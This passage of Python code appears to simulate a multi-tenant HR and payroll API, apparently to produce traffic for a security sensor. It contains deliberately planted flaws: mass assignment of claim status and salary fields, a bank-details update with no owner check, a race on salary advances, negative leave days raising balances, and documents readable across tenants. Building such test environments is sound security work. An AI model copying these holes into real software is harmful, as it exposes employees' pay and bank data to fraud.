"""A multi-tenant HR and payroll service in the manner of ASP.NET Core (Kestrel behind an ingress that the sensor stands behind):
companies, employees, managers, HR administrators, accountants of several companies, partners with API keys or client credentials,
identity providers that provision by SCIM, a shop-floor kiosk, OData lists for reports, payslips by document number. Errors are
ProblemDetails where a controller answers, and empty where the framework does (unknown routes, 401 and 403 of the bearer handler,
405). The tenant filter of the data layer makes foreign objects 404."""
from heldout_core import *

HOST, SRV, PROXY = 'api.paynest.example', '10.40.1.10', '10.200.0.2'
A = '/api/v1'
EMP, MGR, HR, ACC, SUP = 'Employee', 'Manager', 'HrAdmin', 'Accountant', 'Support'
TENANTS = [('brightwell', 'Brightwell Logistics', 64), ('corvid', 'Corvid Foods', 52), ('halden', 'Halden Engineering', 44), ('merrow', 'Merrow Care Homes', 40), ('osprey', 'Osprey Retail', 36), ('tarn', 'Tarn & Vale Solicitors', 30), ('quill', 'Quill Media', 28), ('lumen', 'Lumen Dental', 24), ('fenwick', 'Fenwick Builders', 22), ('pollard', 'Pollard Brewing', 18), ('sable', 'Sable Studios', 16), ('rowan', 'Rowan Primary Trust', 14), ('kestrelair', 'Kestrel Air Parts', 12), ('ironbark', 'Ironbark Joinery', 10), ('dovecote', 'Dovecote Hotels', 10), ('larch', 'Larch Analytics', 8), ('minnow', 'Minnow Apps', 8), ('otter', 'Otter Cycles', 6)]
GIVEN = 'Aisha,Alan,Beth,Callum,Chloe,Daniel,Deepa,Eilidh,Ewan,Farah,George,Grace,Hamish,Helen,Imran,Isla,Jack,Jade,Kiran,Laura,Liam,Megan,Mohammed,Nadia,Niamh,Oliver,Owen,Priya,Rhys,Rosa,Sam,Sean,Sofia,Tom,Uma,Victor,Wendy,Yusuf,Zoe,Piotr'.split(',')
FAMILY = "Adams,Ahmed,Baker,Begum,Campbell,Clarke,Davies,D'Souza,Evans,Fraser,Green,Hall,Hughes,Jones,Kaur,Khan,Kowalska,Lewis,MacDonald,Morgan,Murphy,O'Brien,O'Neill,Patel,Price,Reid,Roberts,Shah,Singh,Smith,Stewart,Taylor,Thomas,Walker,Ward,White,Wilson,Wood,Wright,Young".split(',')
DEPTS = ['Operations', 'Finance', 'Sales', 'Warehouse', 'People', 'IT', 'Front of house', 'R&D']
TITLES = ['Assistant', 'Coordinator', 'Team lead', 'Engineer', 'Driver', 'Analyst', 'Supervisor', 'Picker', 'Consultant', 'Nurse']
SPEND = ["Taxi to airport <-> hotel", "Lunch w/ client; 3 people", "Train London-Leeds 2nd class", "Parking 5 hrs @ 2.40", "Hotel, 1 night (Ibis)", "Select 2026 conference ticket", "Replacement drop cable & adapter", "Mileage 43 mi", "Team breakfast - it's Dan's birthday", "Postage", "Software licence 1 user", "Union St car park", "Printer paper + toner"]
WEBH = {'Origin': 'https://app.paynest.example', 'Referer': 'https://app.paynest.example/'}
SECT = {400: ('9110#section-15.5.1', 'Bad Request'), 401: ('9110#section-15.5.2', 'Unauthorized'), 403: ('9110#section-15.5.4', 'Forbidden'), 404: ('9110#section-15.5.5', 'Not Found'), 409: ('9110#section-15.5.10', 'Conflict'), 415: ('9110#section-15.5.16', 'Unsupported Media Type'), 422: ('4918#section-11.2', 'Unprocessable Entity'), 429: ('6585#section-4', 'Too Many Requests'), 500: ('9110#section-15.6.1', 'An error occurred while processing your request.')}
FIELDS = {'Id', 'FirstName', 'LastName', 'Email', 'JobTitle', 'Department', 'StartDate', 'ManagerId', 'Status', 'Fte'}
HIDDEN = {'NationalInsuranceNumber': 'ni', 'AnnualSalary': 'salary', 'DateOfBirth': 'dob'}

SHAKY = {A + '/me/notifications', A + '/employees/{id}/photo', A + '/leave/requests', A + '/team/calendar', A + '/reports/headcount', A + '/expenses/{id}'}


def C(ip, ua, ident=None, **k):
    """a client: from outside through the ingress, from inside directly"""
    h = dict(k.pop('headers', {}))
    if ip.startswith('10.40.'):
        return Client(ip, ua, ident, headers=h, **k)
    return Client(PROXY, ua, ident, xff=ip, headers={'X-Forwarded-Proto': 'https', **h}, **k)


def num(v, d=0):
    try:
        return int(v)
    except (TypeError, ValueError, OverflowError):
        return d


class Payroll(App):
    server = 'Kestrel'
    base_lat = .014

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st = attacks, st
        s.ten, s.users, s.bymail, s.emp, s.docs, s.claims, s.leave, s.runs, s.exports, s.hooks, s.keys, s.scimtok, s.oauth, s.refresh, s.mfa = ({} for _ in range(15))
        s.clients, s.sso, s.mail, s.shifts, s.vac, s.trials, s.fails, s.vouch = ({} for _ in range(8))
        s.ne, s.nd, s.nl, s.ns, s.nv = 10410, 481200, 77120, 3300, 512
        s.grow = st + 9 * DAY + 8 * HOUR if attacks else 1e12
        s.shadow = st + 8 * DAY + 6 * HOUR

    # --- state
    def employee(s, tid, now, role=EMP, fl=None):
        r = s.rng
        s.ne += r.randint(1, 2)
        f, l = fl or (r.choice(GIVEN), r.choice(FAMILY))
        t = s.ten[tid]
        m = f'{f}.{l}'.lower().replace("'", '') + (str(r.randint(2, 9)) if f'{f}.{l}'.lower().replace("'", '') + '@' + t['slug'] + '.example' in s.bymail else '')
        while f'{m}@{t["slug"]}.example' in s.bymail:
            m += str(r.randint(1, 9))
        e = s.emp[s.ne] = dict(id=s.ne, no=len(t['emps']) + 101, tid=tid, first=f, last=l, email=f'{m}@{t["slug"]}.example', title=r.choice(TITLES), dept=r.choice(DEPTS), mgr=None, salary=r.randint(21000, 88000), ni=f'{"".join(r.choices("ABCEGHJKLMNPRSTWXYZ", k=2))}{r.randint(100000, 999999)}{r.choice("ABCD")}', dob=f'{r.randint(1962, 2004)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}', sort=f'{r.randint(10, 99)}-{r.randint(10, 99)}-{r.randint(10, 99)}', acct=f'{r.randint(10**7, 10**8 - 1)}', start=f'{r.randint(2014, 2025)}-{r.randint(1, 12):02}-01', tax='1257L', phone=f'07{r.randint(10**8, 10**9 - 1)}', addr=f'{r.randint(1, 190)} {r.choice(WORDS).title()} Road', docs=[], claims=[], leave=[], status='Active', pin=r.choice(['1234', '1111', '2580']) if r.random() < .06 else f'{r.randint(0, 9999):04}', bal=25.0, adv=0, points=120)
        t['emps'].append(s.ne)
        u = s.user(e['email'], f'{f} {l}', tid, role, e['id'])
        e['uid'] = u['id']
        return e, u

    def user(s, mail, name, tid, role, emp=None, tids=None):
        r = s.rng
        u = dict(id=uid(r), email=mail, name=name, tid=tid, role=role, emp=emp, tids=tids or [tid], pw=f'{r.choice(WORDS).title()}{r.choice("!-_.")}{r.randint(10, 9999)}', mfa=role in (HR, ACC, SUP), active=True, lock=0, sso=False)
        u['mem'] = u['pw']
        s.users[u['id']] = s.bymail[mail] = u
        return u

    def doc(s, e, kind, name, at):
        s.nd += s.rng.choice([1, 1, 1, 2])
        s.docs[s.nd] = dict(id=s.nd, emp=e['id'], tid=e['tid'], kind=kind, name=name, at=at, size=s.rng.randint(900, 2600))
        e['docs'].append(s.nd)
        return s.nd

    def claim(s, e, j, at):
        i = uid(s.rng)
        amt = j.get('amount', 0)
        c = s.claims[i] = dict(id=i, emp=e['id'], tid=e['tid'], amount=amt, currency='GBP', category=j.get('category', 'Travel'), description=str(j.get('description', ''))[:200], spent=j.get('spentOn'), status='Approved' if amt < 50 else 'Submitted', at=at, rec=[], by='auto' if amt < 50 else None)
        if j.get('status') in ('Submitted', 'Approved', 'Paid'):        # Bound from the body like any other property.
            c['status'], c['by'] = j['status'], j.get('approvedBy')
        e['claims'].append(i)
        return c

    def iso(s, t):
        return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t % 1 * 1e7):07}Z'

    # --- errors
    def pd(s, st, detail=None, errors=None, **k):
        sec, title = SECT[st]
        b = {'type': f'https://tools.ietf.org/html/rfc{sec}', 'title': 'One or more validation errors occurred.' if errors else title, 'status': st}
        if detail:
            b['detail'] = detail
        if errors:
            b['errors'] = errors
        b['traceId'] = f'00-{s.rng.getrandbits(128):032x}-{s.rng.getrandbits(64):016x}-00'
        return Rs(st, b, ct='application/problem+json; charset=utf-8', **k)

    def bind(s, rq, **f):
        """the model binder: types of the declared properties"""
        j, e = rq.json, {}
        if not isinstance(j, dict):
            return None, s.pd(400, errors={'$': ['The JSON value could not be converted to the request type. Path: $ | LineNumber: 0 | BytePositionInLine: 1.'], 'request': ['The request field is required.']})
        for k, t in f.items():
            opt = isinstance(t, tuple)
            t = t[0] if opt else t
            v = j.get(k)
            if v is None or v == '' and not opt:
                if not opt:
                    e[k[0].upper() + k[1:]] = [f'The {k[0].upper() + k[1:]} field is required.']
            elif not isinstance(v, t) or isinstance(v, bool) and t is not bool or t is float and abs(v) > 1e28:
                return None, s.pd(400, errors={'request': ['The request field is required.'], f'$.{k}': [f'The JSON value could not be converted to {"System.Decimal" if float in (t if isinstance(t, tuple) else (t,)) else "System.Int32" if t is int else "System.String"}. Path: $.{k} | LineNumber: 0 | BytePositionInLine: {s.rng.randint(9, 70)}.']})
        return (None, s.pd(400, errors=e)) if e else (j, None)

    def not_found(s, rq):
        return Rs(404, None, lat=.002)

    def handle(s, rq):
        rq.u = rq.partner = rq.tid = None
        ct, hit = rq.h.get('content-type', ''), s.find(rq.m, rq.path)
        if hit and hit[1] and not any(a <= rq.now < b for a, b in s.down):
            raw = hit[2].get('raw')
            if rq.m in ('POST', 'PUT', 'PATCH') and rq.body and not raw and hit[2].get('auth') != 'none' and s.authenticate(rq, hit[2]) is None or hit[2].get('auth') == 'none' and rq.body and not raw:
                if 'json' not in ct:
                    r = s.pd(415, lat=.003)
                    return r, hit[0]
                try:
                    json.loads(rq.body)
                except ValueError:
                    return s.pd(400, errors={'$': [f"'{(rq.body or b' ')[:1].decode('latin1')}' is an invalid start of a value. Path: $ | LineNumber: 0 | BytePositionInLine: 0."], 'request': ['The request field is required.']}, lat=.003), hit[0]
        r, tpl = super().handle(rq)
        if r.st == 200 and rq.u and not rq.cl.ep and tpl in SHAKY and s.rng.random() < .006:       # Dead-locks, time-outs of the database.
            r = s.pd(500, lat=s.rng.choice([.03, 1.2, 30.01]))
        if r.st == 405:
            r.body, r.h['Allow'] = None, ', '.join(sorted({m for m, t, _, _, _ in s.table if '/' + '/'.join(t) == tpl}))
        if r.ct is None and isinstance(r.body, (dict, list)):
            r.ct = 'application/json; charset=utf-8'
        r.h.setdefault('api-supported-versions', '1.0')
        return r, tpl

    def token(s, u, now, tid=None, life=3600):
        return jwt({'sub': u['id'], 'email': u['email'], 'name': u['name'], 'tid': tid or u['tid'], 'role': u['role'], 'iss': 'https://id.paynest.example', 'aud': 'paynest-api', 'jti': uid(s.rng), 'nbf': int(now), 'exp': int(now + life)}, 'pn-signing-2026')

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'user')
        rq.u = rq.partner = rq.tid = None
        a, k = rq.h.get('authorization', ''), rq.h.get('x-api-key')
        why = 'Bearer'
        if need in ('none', 'internal'):
            return None
        if need == 'partner':
            if k in s.keys:
                rq.partner = s.keys[k]
            elif a[7:] in s.oauth and s.oauth[a[7:]][1] > rq.now:
                rq.partner = s.oauth[a[7:]][0]
            if not rq.partner:
                return s.pd(401, 'API key is missing or invalid.', lat=.004) if k or not a else Rs(401, None, {'WWW-Authenticate': 'Bearer error="invalid_token"'}, lat=.003)
            rq.user = 'partner:' + rq.partner['name']
            return None
        if need == 'scim':
            t = s.scimtok.get(a[7:])
            if not t:
                return Rs(401, {'schemas': ['urn:ietf:params:scim:api:messages:2.0:Error'], 'detail': 'Authorization failure. The authorization header is invalid or missing.', 'status': '401'}, ct='application/scim+json')
            rq.tid, rq.user = t, 'scim:' + s.ten[t]['slug']
            return None
        c = None
        if a.startswith('Bearer '):
            try:
                c = jwt_ok(a[7:], 'pn-signing-2026')
            except Exception:
                c = None
            if not c:
                why = 'Bearer error="invalid_token", error_description="The signature key was not found"'
            elif c['exp'] + 300 < rq.now:
                why = f'Bearer error="invalid_token", error_description="The token expired at \'{time.strftime("%m/%d/%Y %H:%M:%S", time.gmtime(c["exp"]))}\'"'
                c = None
        u = s.users.get(c['sub']) if c else None
        if not u or not u['active']:
            return Rs(401, None, {'WWW-Authenticate': why}, lat=.002)
        rq.u, rq.user, rq.tid = u, u['id'], c['tid']
        role = u['role']
        if need != 'user' and role not in need.split('|'):
            return Rs(403, None, lat=.003)
        x = rq.h.get('x-tenant-id')
        if x and x != rq.tid:
            if x not in s.ten or x not in u['tids'] and not (kw.get('loose') and role == ACC) and role != SUP:
                return s.pd(403, 'You do not have access to this company.', lat=.005)
            rq.tid = x
        return None

    def me(s, rq):
        return s.emp.get(rq.u['emp'])

    # --- accounts
    def grant(s, u, now):
        f = base64.b64encode(s.rng.randbytes(48)).decode()
        s.refresh[f] = (u['id'], now + 14 * DAY)
        return Rs(200, {'accessToken': s.token(u, now), 'tokenType': 'Bearer', 'expiresIn': 3600, 'refreshToken': f}, lat=.09 + s.rng.random() * .04)

    @route('POST', A + '/auth/login', auth='none')
    def login(s, rq):
        j, e = s.bind(rq, email=str, password=str)
        if e:
            return e
        w = (rq.cl.xff or rq.cl.ip, int(rq.now / 60))
        s.fails[w] = s.fails.get(w, 0) + 1
        if s.fails[w] > 20:
            return s.pd(429, lat=.002, h={'Retry-After': '60'})
        u = s.bymail.get(j['email'].lower())
        if not u or not u['active']:
            return s.pd(401, 'Invalid e-mail address or password.', lat=.085 + s.rng.random() * .03)
        if u['lock'] > rq.now:
            return s.pd(401, 'This account is locked. Try again later or reset the password.', lat=.012)
        if u['pw'] != j['password']:
            u['bad'] = u.get('bad', 0) + 1
            if u['bad'] >= 5:
                u['bad'], u['lock'] = 0, rq.now + 900
            return s.pd(401, 'Invalid e-mail address or password.', lat=.085 + s.rng.random() * .03)
        u['bad'] = 0
        if u['mfa']:
            t = s.rng.randbytes(24).hex()
            s.mfa[t] = [u['id'], f'{s.rng.randint(0, 999999):06}', 0]
            return Rs(200, {'mfaRequired': True, 'mfaToken': t, 'method': 'Totp'}, lat=.09)
        return s.grant(u, rq.now)

    @route('POST', A + '/auth/mfa', auth='none')
    def second(s, rq):
        j, e = s.bind(rq, mfaToken=str, code=str)
        if e:
            return e
        m = s.mfa.get(j['mfaToken'])
        if not m or m[2] >= 5:
            return s.pd(401, 'The challenge has expired. Sign in again.')
        m[2] += 1
        if m[1] != j['code']:
            return s.pd(401, 'The code is not valid.')
        del s.mfa[j['mfaToken']]
        return s.grant(s.users[m[0]], rq.now)

    @route('POST', A + '/auth/refresh', auth='none')
    def renew(s, rq):
        j, e = s.bind(rq, refreshToken=str)
        if e:
            return e
        k = s.refresh.pop(j['refreshToken'], None)
        if not k or k[1] < rq.now:
            return s.pd(401, 'The refresh token is not valid.')
        rq.user = k[0]
        r = s.grant(s.users[k[0]], rq.now)
        r.lat = .02
        return r

    @route('POST', A + '/auth/sso/exchange', auth='none')
    def exchange(s, rq):
        j, e = s.bind(rq, code=str, state=str)
        if e:
            return e
        i = s.sso.pop(j['code'], None)
        if not i or not s.users[i]['active']:
            return s.pd(401, 'The sign-in could not be completed.')
        rq.user = i
        return s.grant(s.users[i], rq.now)

    @route('POST', A + '/auth/logout')
    def logout(s, rq):
        return Rs(204)

    @route('GET', A + '/auth/discover', auth='none')
    def discover(s, rq):
        u = s.bymail.get(rq.q.get('email', '').lower())
        if not u:
            return s.pd(404, 'No company uses this e-mail address.')
        t = s.ten[u['tid']]
        return 200, {'tenantId': t['id'], 'company': t['name'], 'loginMethod': 'Sso' if u['sso'] else 'Password', 'logoUrl': f'/public/v1/companies/{t["slug"]}/logo'}

    @route('POST', A + '/auth/forgot-password', auth='none')
    def forgot(s, rq):
        j, e = s.bind(rq, email=str)
        if e:
            return e
        u = s.bymail.get(j['email'].lower())
        if u:
            s.mail[u['email']] = base64.urlsafe_b64encode(s.rng.randbytes(60)).decode()
        return Rs(202, None, lat=.02)

    @route('POST', A + '/auth/reset-password', auth='none')
    def reset(s, rq):
        j, e = s.bind(rq, email=str, token=str, newPassword=str)
        if e:
            return e
        u = s.bymail.get(j['email'].lower())
        if not u or s.mail.get(u['email']) != j['token']:
            return s.pd(400, errors={'InvalidToken': ['Invalid token.']})
        if len(j['newPassword']) < 8:
            return s.pd(400, errors={'PasswordTooShort': ['Passwords must be at least 8 characters.']})
        del s.mail[u['email']]
        u['pw'], u['lock'], u['bad'] = j['newPassword'], 0, 0
        return Rs(204, None, lat=.1)

    @route('POST', A + '/auth/change-password')
    def change(s, rq):
        j, e = s.bind(rq, currentPassword=str, newPassword=str)
        if e:
            return e
        if j['currentPassword'] != rq.u['pw']:
            return s.pd(400, errors={'PasswordMismatch': ['Incorrect password.']}, lat=.09)
        rq.u['pw'] = j['newPassword']
        return Rs(204, None, lat=.15)

    @route('POST', A + '/kiosk/login', auth='none')
    def kiosk(s, rq):
        j, e = s.bind(rq, company=str, employeeNo=int, pin=str)
        if e:
            return e
        t = next((t for t in s.ten.values() if t['slug'] == j['company']), None)
        m = next((s.emp[i] for i in t['emps'] if s.emp[i]['no'] == j['employeeNo']), None) if t else None
        if not m or m['pin'] != j['pin'] or m['status'] != 'Active':
            return s.pd(401, 'Employee number or PIN is not valid.')
        u = s.users[m['uid']]
        rq.user = u['id']
        return 200, {'accessToken': s.token(u, rq.now, life=300), 'tokenType': 'Bearer', 'expiresIn': 300, 'firstName': m['first']}

    @route('POST', '/connect/token', auth='none', raw=True)
    def oauth_token(s, rq):
        f = rq.form
        c = next((v for v in s.clients.values() if v['cid'] == f.get('client_id')), None)
        if f.get('grant_type') != 'client_credentials':
            return 400, {'error': 'unsupported_grant_type'}
        if not c or c['secret'] != f.get('client_secret'):
            return 400, {'error': 'invalid_client'}
        rq.user = 'partner:' + c['name']
        t = jwt({'iss': 'https://id.paynest.example', 'client_id': c['cid'], 'scope': ['partner.read', 'partner.write'], 'iat': int(rq.now), 'exp': int(rq.now + 3600), 'jti': uid(s.rng)}, 'pn-partner')
        s.oauth[t] = (c, rq.now + 3600)
        return Rs(200, {'access_token': t, 'expires_in': 3600, 'token_type': 'Bearer', 'scope': 'partner.read partner.write'}, {'Cache-Control': 'no-store, no-cache, max-age=0', 'Pragma': 'no-cache'})

    # --- me
    @route('GET', A + '/me')
    def get_me(s, rq):
        u, e = rq.u, s.me(rq)
        b = {'userId': u['id'], 'email': u['email'], 'displayName': u['name'], 'role': u['role'], 'tenantId': u['tid'], 'company': s.ten[u['tid']]['name']}
        if e:
            b.update(employeeId=e['id'], jobTitle=e['title'], department=e['dept'], managerId=e['mgr'], phone=e['phone'], address=e['addr'], leaveBalance=e['bal'], bank={'sortCode': '**-**-' + e['sort'][-2:], 'accountNumber': '****' + e['acct'][-4:]})
        return 200, b

    @route('PATCH', A + '/me/profile')
    def put_me(s, rq):
        j, err = s.bind(rq, phone=(str,), address=(str,), preferredName=(str,))
        e = s.me(rq)
        if err or not e:
            return err or s.pd(404)
        for k, v in (('phone', 'phone'), ('address', 'addr'), ('annualSalary', 'salary'), ('taxCode', 'tax'), ('managerId', 'mgr'), ('leaveBalance', 'bal')):
            if k in j:
                e[v] = j[k]
        return 200, {'employeeId': e['id'], 'phone': e['phone'], 'address': e['addr'], 'preferredName': j.get('preferredName'), 'updatedAt': s.iso(rq.now)}

    @route('GET', A + '/me/notifications')
    def notes(s, rq):
        k = random.Random(f'{rq.u["id"]}{int(rq.now / DAY)}')
        return 200, {'items': [{'id': uid(k), 'kind': k.choice(['LeaveApproved', 'ClaimApproved', 'PayslipPublished', 'PolicyUpdated']), 'read': False, 'createdAt': s.iso(rq.now - k.random() * DAY)} for _ in range(k.choice([0, 0, 1, 2, 3]))], 'unread': k.randint(0, 3)}

    @route('GET', A + '/me/tenants')
    def tenants(s, rq):
        return 200, [{'tenantId': t, 'number': s.ten[t]['number'], 'name': s.ten[t]['name'], 'employees': len(s.ten[t]['emps'])} for t in rq.u['tids']]

    @route('POST', A + '/me/bank-details/challenge')
    def challenge(s, rq):
        rq.u['code'] = f'{s.rng.randint(0, 999999):06}'
        return Rs(204, None, lat=.2)

    @route('PUT', A + '/employees/{id}/bank-details')
    def bank(s, rq, i):
        e = s.emp.get(num(i))
        if not e or e['tid'] != rq.tid:
            return s.pd(404)
        j, err = s.bind(rq, sortCode=str, accountNumber=str, accountName=str, verificationCode=(str,))
        if err:
            return err
        if not re.fullmatch(r'\d\d-?\d\d-?\d\d', j['sortCode']) or not re.fullmatch(r'\d{8}', j['accountNumber']):
            return s.pd(400, errors={'AccountNumber': ['The account number must have 8 digits and the sort code 6.']})
        if j.get('verificationCode') and j['verificationCode'] != rq.u.get('code'):     # Only compared if there is one; the owner is not.
            return s.pd(400, errors={'VerificationCode': ['The code is not valid.']})
        e['sort'], e['acct'] = j['sortCode'], j['accountNumber']
        return 200, {'employeeId': e['id'], 'sortCode': '**-**-' + e['sort'][-2:], 'accountNumber': '****' + e['acct'][-4:], 'effectiveFrom': '2026-05-29'}

    @route('GET', A + '/employees/{id}/bank-details', auth=HR + '|' + ACC)
    def get_bank(s, rq, i):
        e = s.emp.get(num(i))
        return (200, {'employeeId': e['id'], 'sortCode': e['sort'], 'accountNumber': e['acct'], 'accountName': f'{e["first"]} {e["last"]}'}) if e and e['tid'] == rq.tid else s.pd(404)

    @route('GET', A + '/me/advances/available')
    def avail(s, rq):
        e = s.me(rq)
        return (200, {'available': max(0, 300 - e['adv']), 'currency': 'GBP', 'fee': 1.5}) if e else s.pd(404)

    @route('POST', A + '/me/advances')
    def advance(s, rq):
        j, err = s.bind(rq, amount=int)
        e = s.me(rq)
        if err or not e:
            return err or s.pd(404)
        seen = e.get('advs', [])
        if sum(a for a, t in seen if rq.now - t > .06) + j['amount'] > 300 or j['amount'] <= 0:     # What is being written this moment is not seen.
            return s.pd(422, 'The amount is above what can be drawn.')
        e['advs'] = seen + [(j['amount'], rq.now)]
        e['adv'] += j['amount']
        return Rs(201, {'id': uid(s.rng), 'amount': j['amount'], 'status': 'Paid', 'repaidOn': '2026-06-26'}, lat=.35)

    @route('POST', A + '/me/vouchers/redeem')
    def voucher(s, rq):
        j, err = s.bind(rq, code=str)
        if err:
            return err
        v = s.vouch.get(j['code'])
        if not v:
            return s.pd(404, 'This voucher does not exist or has been used.')
        del s.vouch[j['code']]
        return 200, {'code': j['code'], 'value': v, 'currency': 'GBP'}

    # --- documents
    def o_doc(s, i):
        d = s.docs[i]
        return {'id': i, 'type': d['kind'], 'name': d['name'], 'employeeId': d['emp'], 'size': d['size'], 'createdAt': s.iso(d['at'])}

    @route('GET', A + '/me/documents')
    def my_docs(s, rq):
        e = s.me(rq)
        v = [i for i in (e['docs'] if e else []) if s.docs[i]['kind'] == rq.q.get('type', s.docs[i]['kind'])][::-1]
        return 200, {'items': [s.o_doc(i) for i in v[:24]], 'totalCount': len(v), 'page': 1, 'pageSize': 24}

    @route('GET', A + '/employees/{id}/documents')
    def emp_docs(s, rq, i):
        e = s.emp.get(num(i))
        if not e or e['tid'] != rq.tid:
            return s.pd(404)
        return 200, {'items': [s.o_doc(i) for i in e['docs'][::-1]], 'totalCount': len(e['docs']), 'page': 1, 'pageSize': 50}

    @route('GET', A + '/documents/{id}')
    def get_doc(s, rq, i):
        d = s.docs.get(num(i))
        return (200, s.o_doc(num(i))) if d and d['tid'] == rq.tid else s.pd(404)

    def pdf(s, i, d):
        return Rs(200, b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n' + random.Random(i).randbytes(d['size']) + b'\n%%EOF\n', {'Content-Disposition': f'attachment; filename="{d["name"]}"'}, ct='application/pdf', lat=.03 + s.rng.random() * .03)

    @route('GET', A + '/documents/{id}/content')
    def content(s, rq, i):
        d = s.docs.get(num(i))      # Read past the tenant filter, from the blob index.
        return s.pdf(num(i), d) if d else s.pd(404)

    @route('GET', '/api/v0/payslip/{file}', auth='internal')
    def old_slip(s, rq, f):
        i = num(f[:-4]) if f.endswith('.pdf') else 0
        return s.pdf(i, s.docs[i]) if i in s.docs else Rs(404, None)

    # --- leave
    @route('GET', A + '/leave/requests')
    def leaves(s, rq):
        e = s.me(rq)
        v = (e or {'leave': []})['leave'][::-1]
        return 200, {'items': [s.leave[i] for i in v[:20]], 'totalCount': len(v), 'balance': e['bal'] if e else 0}

    @route('POST', A + '/leave/requests')
    def new_leave(s, rq):
        j, err = s.bind(rq, type=str, note=(str,))
        e = s.me(rq)
        if err or not e:
            return err or s.pd(404)
        if not isinstance(j.get('days'), (int, float)) or isinstance(j.get('days'), bool):
            return s.pd(400, errors={'$.days': ['The JSON value could not be converted to System.Decimal. Path: $.days | LineNumber: 0 | BytePositionInLine: 41.'], 'request': ['The request field is required.']})
        if j['days'] > e['bal'] and j['type'] == 'Annual':
            return s.pd(422, 'There are not enough days left.')
        s.nl += s.rng.randint(1, 3)
        s.leave[s.nl] = {'id': s.nl, 'employeeId': e['id'], 'type': j['type'], 'from': j.get('from'), 'to': j.get('to'), 'days': j['days'], 'note': j.get('note'), 'status': 'Pending', 'createdAt': s.iso(rq.now)}
        e['leave'].append(s.nl)
        e['bal'] = round(e['bal'] - j['days'], 1)       # Negative days add.
        return 201, s.leave[s.nl]

    @route('DELETE', A + '/leave/requests/{id}')
    def del_leave(s, rq, i):
        x = s.leave.get(num(i))
        if not x or x['employeeId'] != rq.u['emp']:
            return s.pd(404)
        x['status'] = 'Cancelled'
        return Rs(204)

    @route('POST', A + '/leave/requests/{id}/approve', auth=MGR + '|' + HR)
    def ok_leave(s, rq, i):
        x = s.leave.get(num(i))
        if not x or s.emp[x['employeeId']]['tid'] != rq.tid:
            return s.pd(404)
        x['status'] = 'Approved'
        return 200, x

    @route('GET', A + '/team/calendar')
    def cal(s, rq):
        es = [i for i in s.ten[rq.tid]['emps'] if s.emp[i]['dept'] == (s.me(rq) or {}).get('dept')]
        return 200, {'month': rq.q.get('month'), 'entries': [{'employeeId': i, 'name': s.emp[i]['first'] + ' ' + s.emp[i]['last'][0], 'leaveId': l, 'from': s.leave[l]['from'], 'to': s.leave[l]['to']} for i in es for l in s.emp[i]['leave'][-2:]]}

    # --- expenses
    def o_claim(s, c, deep=False):
        b = {'id': c['id'], 'employeeId': c['emp'], 'employee': s.emp[c['emp']]['first'] + ' ' + s.emp[c['emp']]['last'], 'amount': c['amount'], 'currency': 'GBP', 'category': c['category'], 'description': c['description'], 'spentOn': c['spent'], 'status': c['status'], 'approvedBy': c['by'], 'createdAt': s.iso(c['at'])}
        if deep:
            b['receipts'] = [{'id': x, 'fileName': f} for x, f in c['rec']]
        return b

    @route('GET', A + '/expenses')
    def my_claims(s, rq):
        e = s.me(rq)
        v = (e or {'claims': []})['claims'][::-1]
        p = max(1, num(rq.q.get('page'), 1))
        return 200, {'items': [s.o_claim(s.claims[i]) for i in v[20 * p - 20:20 * p]], 'totalCount': len(v), 'page': p, 'pageSize': 20}

    @route('POST', A + '/expenses')
    def new_claim(s, rq):
        j, err = s.bind(rq, category=str, description=str)
        e = s.me(rq)
        if err or not e:
            return err or s.pd(404)
        if not isinstance(j.get('amount'), (int, float)) or isinstance(j.get('amount'), bool):
            return s.pd(400, errors={'$.amount': ['The JSON value could not be converted to System.Decimal. Path: $.amount | LineNumber: 0 | BytePositionInLine: 20.'], 'request': ['The request field is required.']})
        if not 0 < j['amount'] <= 5000:
            return s.pd(400, errors={'Amount': ['The field Amount must be between 0.01 and 5000.']})
        c = s.claim(e, j, rq.now)
        return Rs(201, s.o_claim(c, True), {'Location': f'{A}/expenses/{c["id"]}'}, lat=.05)

    @route('GET', A + '/expenses/{id}')
    def get_claim(s, rq, i):
        c = s.claims.get(i)
        return (200, s.o_claim(c, True)) if c and c['tid'] == rq.tid and (c['emp'] == rq.u['emp'] or rq.u['role'] != EMP) else s.pd(404)

    @route('POST', A + '/expenses/{id}/receipts', raw=True)
    def receipt(s, rq, i):
        c = s.claims.get(i)
        if not c or c['emp'] != rq.u['emp']:
            return s.pd(404)
        if 'multipart/form-data' not in rq.h.get('content-type', ''):
            return s.pd(415)
        m = re.search(rb'filename="([^"]*)"', rq.body or b'')
        n = m.group(1).decode('latin1') if m else ''
        if not re.search(r'\.(jpe?g|png|pdf|heic|svg)$', n, re.I):
            return s.pd(400, errors={'File': ['Only jpg, png, heic, svg and pdf are allowed.']})
        x = uid(s.rng)
        c['rec'].append((x, n.replace('\\', '/').split('/')[-1]))
        return Rs(201, {'id': x, 'fileName': c['rec'][-1][1], 'size': len(rq.body)}, lat=.12)

    @route('GET', A + '/expenses/{id}/receipts/{rid}')
    def get_receipt(s, rq, i, x):
        c = s.claims.get(i)
        return Rs(200, b'\xff\xd8\xff\xe0\0\x10JFIF' + random.Random(x).randbytes(1500), ct='image/jpeg') if c and c['tid'] == rq.tid and x in [y for y, _ in c['rec']] else s.pd(404)

    @route('POST', A + '/expenses/{id}/approve', auth=MGR + '|' + HR)
    def ok_claim(s, rq, i):
        c = s.claims.get(i)
        if not c or c['tid'] != rq.tid:
            return s.pd(404)
        if c['status'] != 'Submitted':
            return s.pd(409, 'The claim is not waiting for approval.')
        c['status'], c['by'] = 'Approved', rq.u['emp']
        return 200, s.o_claim(c)

    @route('GET', A + '/approvals', auth=MGR + '|' + HR)
    def approvals(s, rq):
        es = [s.emp[i] for i in s.ten[rq.tid]['emps'] if s.emp[i]['mgr'] == rq.u['emp'] or rq.u['role'] == HR]
        return 200, {'expenses': [s.o_claim(s.claims[i]) for e in es for i in e['claims'][-6:] if s.claims[i]['status'] == 'Submitted'][:25], 'leave': [s.leave[i] for e in es for i in e['leave'][-4:] if s.leave[i]['status'] == 'Pending'][:25]}

    # --- people
    def o_dir(s, e, now):
        b = {'id': e['id'], 'userId': e['uid'], 'firstName': e['first'], 'lastName': e['last'], 'email': e['email'], 'jobTitle': e['title'], 'department': e['dept']}
        if now > s.grow:
